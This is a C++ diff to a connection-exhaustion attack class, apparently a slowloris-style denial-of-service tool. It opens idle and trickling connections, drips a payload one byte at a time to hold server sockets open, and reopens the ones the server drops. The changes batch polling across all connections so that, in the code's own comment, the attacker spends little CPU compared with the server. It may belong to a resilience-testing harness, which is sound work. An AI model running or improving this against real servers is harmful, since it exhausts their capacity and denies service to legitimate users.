@@ -49,6 +49,9 @@ int ConnectFrom(const std::string& source_ip, int port) {
 }
 
 absl::Status Attack::Open() {
+  Close();  // a second Open starts over
+  stop_.store(false);
+  reopened_.store(0);
   const int total = options_.idle + options_.trickling;
   int connected = 0;
   for (int i = 0; i < total; ++i) {
@@ -68,8 +71,6 @@ absl::Status Attack::Open() {
 }
 
 bool Attack::ServerClosed(int fd) const {
-  pollfd p{fd, POLLIN, 0};
-  if (::poll(&p, 1, 0) <= 0) return false;
   char buf[512];
   const ssize_t n = ::recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
   return n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK);
@@ -78,13 +79,19 @@ bool Attack::ServerClosed(int fd) const {
 void Attack::Run() {
   const std::string payload = TricklePayload(options_.tls);
   auto next_trickle = std::chrono::steady_clock::now();
+  std::vector<pollfd> fds;
   while (!stop_.load()) {
+    // One poll over every connection finds those the server closed (or
+    // answered): the attacker's own CPU stays small next to the server's.
+    fds.clear();
+    for (const Conn& c : conns_) fds.push_back({c.fd, POLLIN, 0});
+    ::poll(fds.data(), fds.size(), 0);
     const bool trickle_now = std::chrono::steady_clock::now() >= next_trickle;
     if (trickle_now) next_trickle += options_.trickle_interval;
     int open = 0;
-    for (Conn& c : conns_) {
-      if (stop_.load()) break;
-      bool closed = c.fd < 0 || ServerClosed(c.fd);
+    for (size_t i = 0; i < conns_.size() && !stop_.load(); ++i) {
+      Conn& c = conns_[i];
+      bool closed = c.fd < 0 || (fds[i].revents != 0 && ServerClosed(c.fd));
       if (!closed && c.trickle && trickle_now) {
         closed = ::send(c.fd, &payload[c.sent % payload.size()], 1, MSG_NOSIGNAL) != 1;
         ++c.sent;
@@ -98,7 +105,7 @@ void Attack::Run() {
       if (c.fd >= 0) ++open;
     }
     open_.store(open);
-    std::this_thread::sleep_for(std::chrono::milliseconds(50));
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
   }
 }
 
